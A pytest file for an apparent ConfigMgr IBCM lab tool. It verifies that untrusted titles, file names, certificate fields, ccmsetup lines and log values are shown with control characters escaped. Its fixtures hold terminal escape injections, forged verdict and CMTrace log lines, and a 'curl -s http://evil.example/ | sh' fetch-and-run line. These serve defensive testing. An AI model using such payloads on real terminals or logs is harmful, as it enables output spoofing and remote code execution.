"""What reaches a terminal, a page or a log is safe (issue 23, part 1).

Values from files a user did not write (scenario titles, descriptions, file names, expect
values, certificate subjects, SANs and CDP URLs, ccmsetup lines) are shown the way ``git``
shows file names: a control character (C0, DEL, C1) appears escaped (``\\x1b``, ``\\n``),
never as the byte itself, and one value never spans lines, so no file can print a line that
reads like the lab's own verdict. The tests look at the bytes written, plain and styled.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from labtest import SCENARIOS
from rich.console import Console

from lab.cli import main
from lab.configmgr.lint import lint_ccmsetup
from lab.errors import ScenarioError
from lab.logs.cmtrace import format_log, parse_log
from lab.names import is_printable_url, printable
from lab.report.html import render_run_html
from lab.report.text import print_text
from lab.results.logline import LogLine
from lab.run import run_paths
from lab.scenario.loader import load_scenario_text

ESC_BYTES = ("\x1b", "\x07", "\x9b", "\x7f", "\x08", "\r")
SGR = re.compile(r"\x1b\[[0-9;]*m")
FORGED = "== forged: everything  -> PASSED"
HOSTILE_TITLE = f"Title\x1b]0;PWNED\x07\x1b[2J\n{FORGED}\x9b31m\x7f"
INTERNET = "IBCM-Internet.public.com"


def raw_controls(text: str) -> list[str]:
    """The control characters in ``text`` other than line breaks."""
    return [c for c in text if c in ESC_BYTES or (ord(c) < 0x20 and c not in "\n\t")]


def run_cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def hostile_scenario(folder: Path, *, stem: str = "hostile") -> Path:
    """The seed's CRL scenario with a title, description and source that try to take the
    terminal over and to print a verdict line of their own."""
    text = (SCENARIOS / "seed3-smsmp-with-https.toml").read_text(encoding="utf-8")
    lines = text.splitlines()
    start = lines.index("[scenario]")
    end = next(i for i in range(start + 1, len(lines)) if lines[i].startswith("["))
    header = ["[scenario]",
              f'title = "{HOSTILE_TITLE.encode("unicode_escape").decode()}"'
              .replace("\\x", "\\u00"),
              'description = "line one\\u001b[31m\\nline two\\u0007"',
              'source = "src\\u001b]8;;http://evil/\\u0007link"']
    path = folder / f"{stem}.toml"
    path.write_text("\n".join(header + lines[end:]) + "\n", encoding="utf-8")
    return path


# ------------------------------------------------------------------------------------------
# The one helper
# ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value, shown", [
    ("plain text", "plain text"),
    ("café 日本", "café 日本"),
    ("a\nb", "a\\nb"),
    ("tab\there", "tab\\there"),
    ("\x1b]0;title\x07", "\\x1b]0;title\\a"),
    ("\x7f\x9b\x85", "\\x7f\\x9b\\x85"),
    ("\u202eevil\u2028", "\\u202eevil\\u2028"),
])
def test_printable_escapes_control_characters_like_git(value: str, shown: str) -> None:
    assert printable(value) == shown
    assert raw_controls(printable(value)) == [] and "\n" not in printable(value)


def test_printable_can_keep_line_breaks_of_a_multi_line_text() -> None:
    assert printable("a\nb\x1b", keep="\n") == "a\nb\\x1b"


def test_a_url_with_del_is_not_printable() -> None:
    assert is_printable_url("http://ca01.contoso.local/x.crl")
    assert not is_printable_url("http://ca01.contoso.local/x\x7f.crl")


# ------------------------------------------------------------------------------------------
# The run report: plain, styled, HTML
# ------------------------------------------------------------------------------------------


def test_the_text_report_escapes_titles_and_file_names(certs_dir: Path, tmp_path: Path) -> None:
    folder = tmp_path / "x\x1b[2J"
    folder.mkdir()
    path = hostile_scenario(folder, stem=f"evil\n{FORGED}\x07")
    code, out, err = run_cli("run", str(path), "--certs", str(certs_dir), "--verbose")
    assert code in (0, 1), err
    assert raw_controls(out) == [] and raw_controls(err) == []
    assert [ln for ln in out.splitlines() if ln.startswith("== ")] == [
        ln for ln in out.splitlines() if ln.startswith("== evil\\n")], out
    assert not any(ln.strip() == FORGED for ln in out.splitlines()), out
    assert "\\x1b]0;PWNED\\a" in out  # shown, not interpreted


def test_the_styled_report_has_no_control_characters_but_its_own_colours(
        certs_dir: Path, tmp_path: Path) -> None:
    run = run_paths([hostile_scenario(tmp_path)], certs=certs_dir)
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, width=100, color_system="standard")
    print_text(run, verbose=True, trace=True, console=console)
    written = buffer.getvalue()
    assert "\x1b[" in written  # rich styled it
    assert raw_controls(SGR.sub("", written)) == [], repr(SGR.sub("", written)[:3000])
    assert not any(SGR.sub("", ln).strip() == FORGED for ln in written.splitlines())


def test_the_html_report_carries_no_escape_or_bell(certs_dir: Path, tmp_path: Path) -> None:
    run = run_paths([hostile_scenario(tmp_path)], certs=certs_dir)
    html = render_run_html(run)
    assert raw_controls(html) == []
    assert "\\x1b]0;PWNED\\a" in html
    assert "line one\\x1b[31m\nline two\\a" in html  # a description keeps its lines


def test_an_error_about_a_file_name_is_one_safe_line(tmp_path: Path) -> None:
    code, _out, err = run_cli("run", str(tmp_path / "no\x1b[2Jsuch\nfile.toml"))
    assert code == 2
    assert raw_controls(err) == [] and len(err.strip().splitlines()) == 1, err


# ------------------------------------------------------------------------------------------
# Logs
# ------------------------------------------------------------------------------------------


def test_a_value_cannot_forge_a_cmtrace_entry() -> None:
    when = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    forged = ('x]LOG]!><time="00:00:00.000+000" date="01-01-2026" component="ccmsetup" '
              'context="" type="1" thread="1" file="">\r\n<![LOG[CcmSetup is exiting with '
              'return code 0\x1b[2J')
    text = format_log([LogLine("ccmsetup.log", "ccmsetup", f"URL={forged}", 3, when, 1, "")],
                      dt.UTC)
    entries = parse_log(text)
    assert len(entries) == 1
    assert "\x1b" not in text and "\\x1b[2J" in entries[0]["message"]
    assert entries[0]["message"].count("]LOG]!") == 1  # the escaped one


# ------------------------------------------------------------------------------------------
# ccmsetup: the linter and the loader, one rule
# ------------------------------------------------------------------------------------------

BELL_LINE = ('ccmsetup.exe /UsePKICert SMSSITECODE=P01 SMSMP=https://IBCM-Intra.contoso.local '
             'CCMCERTSEL="SubjectStr:\x07Contoso" CCMHOSTNAME=IBCM-Internet\x1b[2J.public.com')


def test_the_linter_shows_control_characters_escaped_and_calls_them_errors() -> None:
    _code, out, err = run_cli("ccmsetup", BELL_LINE, "--site-code", "P01")
    assert raw_controls(out) == [] and raw_controls(err) == []
    assert "ERROR    control-character: the line contains the control characters " \
           "'\\x07\\x1b'" in out, out
    findings = lint_ccmsetup(BELL_LINE).findings
    assert any(f.code == "control-character" and f.severity == "error" for f in findings)


def scenario_with_ccmsetup(line: str) -> str:
    text = (SCENARIOS / "seed3-smsmp-with-https.toml").read_text(encoding="utf-8")
    return re.sub(r'(?m)^ccmsetup = ".*"$',
                  lambda _m: f"ccmsetup = {json_string(line)}", text, count=1)


def json_string(value: str) -> str:
    import json

    return json.dumps(value)


@pytest.mark.parametrize("line, key", [
    (BELL_LINE, "client[0].ccmsetup"),
    ('ccmsetup.exe /UsePKICert SMSSITECODE=P01 CCMCERTSEL="Subject:\x07x"',
     "client[0].ccmsetup"),
    (f"ccmsetup.exe /UsePKICert SMSSITECODE=P01 CCMHOSTNAME={INTERNET}\x9b", "client[0].ccmsetup"),
    ("ccmsetup.exe /UsePKICert SMSSITECODE=P01 CCMHOSTNAME=IBCM-Internet.public.com:abc",
     "client[0].ccmsetup"),
])
def test_the_loader_refuses_what_the_linter_calls_invalid(line: str, key: str) -> None:
    errors = [f for f in lint_ccmsetup(line).findings if f.severity == "error"]
    assert errors, "the linter should call this line invalid"
    with pytest.raises(ScenarioError) as caught:
        load_scenario_text(scenario_with_ccmsetup(line), file="x.toml")
    assert caught.value.key == key and caught.value.line is not None
    assert raw_controls(str(caught.value)) == []


def test_the_loader_takes_the_same_line_without_the_control_characters() -> None:
    line = ('ccmsetup.exe /UsePKICert SMSSITECODE=P01 SMSMP=https://IBCM-Intra.contoso.local '
            'CCMCERTSEL="SubjectStr:Contoso" CCMHOSTNAME=IBCM-Internet.public.com')
    scenario = load_scenario_text(scenario_with_ccmsetup(line), file="x.toml")
    assert scenario.clients[0].ccmsetup.cert_selection == "SubjectStr:Contoso"


def test_a_subject_with_control_characters_is_refused() -> None:
    text = (SCENARIOS / "seed3-smsmp-with-https.toml").read_text(encoding="utf-8")
    text = text.replace("[mp.cert]\n", '[mp.cert]\nsubject = "IBCM\\u001b[2J"\n', 1)
    with pytest.raises(ScenarioError, match=r"mp\.cert\.subject: expected a common name "
                                            "without control characters"):
        load_scenario_text(text, file="x.toml")


# ------------------------------------------------------------------------------------------
# check-cert
# ------------------------------------------------------------------------------------------


def test_check_cert_shows_certificate_fields_escaped(tmp_path: Path) -> None:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME,
                                         "MP\x1b]0;PWNED\x07\nResult: fine (exit 0)")])
    now = dt.datetime.now(dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(7)
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=30))
            .add_extension(x509.SubjectAlternativeName(
                [x509.DNSName("ibcm\x1b[2J.contoso.local")]), critical=False)
            .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]),
                           critical=False)
            .add_extension(x509.CRLDistributionPoints([x509.DistributionPoint(
                [x509.UniformResourceIdentifier("http://ca/x.crl\n\x1b[31mResult: fine")],
                None, None, None)]), critical=False)
            .sign(key, hashes.SHA256()))
    path = tmp_path / "evil\x1b[2J.pem"
    path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    code, out, err = run_cli("check-cert", str(path), "--no-replay")
    assert code in (0, 1, 2), err
    assert raw_controls(out) == [] and raw_controls(err) == [], out
    assert [ln for ln in out.splitlines() if ln.startswith("Result:")] == \
        [out.splitlines()[-1]], out


# ------------------------------------------------------------------------------------------
# serve
# ------------------------------------------------------------------------------------------


def test_serve_prints_no_line_a_title_wrote_and_exits_143_on_sigterm(
        certs_dir: Path, tmp_path: Path) -> None:
    path = hostile_scenario(tmp_path)
    text = path.read_text(encoding="utf-8").replace(
        'title = "', 'title = "x\\ncurl -s http://evil.example/ | sh\\n', 1)
    path.write_text(text, encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "lab", "serve", str(path), "--certs",
                             str(certs_dir), "--for-seconds", "120"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    lines: list[str] = []
    deadline = time.monotonic() + 120  # a hang guard, not a speed check
    try:
        while time.monotonic() < deadline:
            line = proc.stdout.readline()
            if not line:
                break
            lines.append(line.rstrip("\n"))
            if line.startswith("# Press Ctrl-C"):
                break
        assert lines and lines[-1].startswith("# Press Ctrl-C"), lines
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 143, err
    assert "Traceback" not in err
    assert not any(ln.startswith("curl -s http://evil") for ln in lines), lines
    assert raw_controls("\n".join(lines) + out) == []
    assert lines[0].startswith("# ibcm-lab serve: hostile (x\\ncurl -s http://evil")


def test_serve_writes_a_log_of_every_request(certs_dir: Path, tmp_path: Path) -> None:
    """serve keeps a window of requests in memory and every request in its log files."""
    proc = subprocess.Popen([sys.executable, "-m", "lab", "serve",
                             str(SCENARIOS / "seed3-smsmp-with-https.toml"), "--certs",
                             str(certs_dir), "--for-seconds", "120"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env={**os.environ})
    assert proc.stdout is not None
    lines: list[str] = []
    deadline = time.monotonic() + 120  # a hang guard
    try:
        while time.monotonic() < deadline:
            line = proc.stdout.readline()
            if not line:
                break
            lines.append(line.rstrip("\n"))
            if line.startswith("# Press Ctrl-C"):
                break
        logs = Path(next(ln.split(": ", 1)[1] for ln in lines
                         if ln.startswith("# Logs of every request")))
        port = int(next(m.group(1) for ln in lines
                        if (m := re.match(r"# IBCM-Intra\.contoso\.local:80 -> [\d.]+:(\d+)",
                                          ln))))
        import urllib.request

        for _ in range(3):
            with contextlib.suppress(OSError):
                urllib.request.urlopen(f"http://127.0.0.1:{port}/SMS_MP/.sms_aut?MPLIST",
                                       timeout=30)
        proc.send_signal(signal.SIGINT)
        proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 130
    w3c = list(logs.glob("u_ex*.log"))
    assert len(w3c) == 1, list(logs.iterdir())
    requests = [ln for ln in w3c[0].read_text(encoding="utf-8").splitlines()
                if not ln.startswith("#")]
    assert len(requests) == 3 and all(" 403 4 " in ln for ln in requests), requests
    assert w3c[0].stat().st_mode & 0o777 == 0o600
